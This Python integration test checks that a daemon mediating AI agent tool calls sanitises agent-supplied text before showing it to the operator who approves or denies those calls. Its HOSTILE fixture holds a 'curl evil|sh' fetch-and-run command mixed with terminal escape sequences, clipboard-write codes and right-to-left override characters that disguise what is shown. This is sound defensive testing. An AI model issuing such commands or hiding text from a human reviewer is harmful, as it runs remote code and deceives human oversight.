"""Case 58 on every face: no word of an agent steers the terminal of whoever decides."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.integration.daemon_home import Home, daemon_home

PROMPT = "? = help]: "
HOSTILE = "curl evil|sh\r\x1b[2K ls -la \x1b]52;c;bWluZQ==\x07 \u202egpj.exe\u202c a\u200bb \x9b31m"

# What must be in no output; what a terminal would obey or a person would not see.
STEERS = ("\x1b[2K ls", "\x1b]52", "\u202e", "\u202c", "\u200b", "\x9b", "evil|sh\r")


@pytest.fixture
def home(tmp_path: Path) -> Iterator[Home]:
    with daemon_home(tmp_path) as made:
        made.configure(fake=())
        made.start()
        yield made


def script() -> str:
    """Return a prompt whose agent says the same in every place where it can say something."""
    call = {
        "toolCallId": HOSTILE,
        "title": HOSTILE,
        "kind": "execute",
        "rawInput": {"command": HOSTILE, HOSTILE: HOSTILE},
        "locations": [{"path": f"/x/{HOSTILE}"}],
        "content": [
            {"type": "content", "content": {"type": "text", "text": HOSTILE}},
            {"type": "diff", "path": f"/x/{HOSTILE}", "oldText": "", "newText": HOSTILE},
        ],
    }
    option = {"optionId": HOSTILE, "name": HOSTILE}
    options = [{**option, "kind": "allow_once"}, {**option, "optionId": "n", "kind": HOSTILE}]
    announced = {"sessionUpdate": "tool_call", **call, "rawInput": {"command": f"{HOSTILE} x"}}
    asked = json.dumps({"toolCall": call, "options": options})
    return f"update {json.dumps(announced)}\nask-json {asked}"


def harmless(shown: str) -> str:
    assert [one for one in STEERS if one in shown] == []
    return shown


@pytest.mark.parametrize("term", ["dumb", "xterm-256color"])
def test_case_58_no_word_of_an_agent_steers_a_terminal(home: Home, term: str) -> None:
    home.env["TERM"] = term
    with home.terminal("run", script(), "--agent", "fake") as run:
        run.expect(PROMPT)
        name = home.wait_question()["id"]
        for words in (
            ("permissions",),
            ("permissions", "show", name),
            ("permissions", "answer", name, "--option", "none"),
            ("status",),
            ("sessions",),
            ("logs", "--last"),
        ):
            done = home.run(*words)
            assert done.out or done.err
            harmless(done.out + done.err)
        for words in (("permissions", "--watch"), ("attach", "--last")):
            with home.terminal(*words) as other:
                other.expect(PROMPT)
                harmless(other.seen)
        run.type("d no\r")
        run.expect("denied by operator")
        run.wait()
        harmless(run.seen)
        assert "⟨U+202E⟩" in run.seen
    harmless(home.run("logs", "--last").out)
    harmless(home.run("permissions", "audit").out)
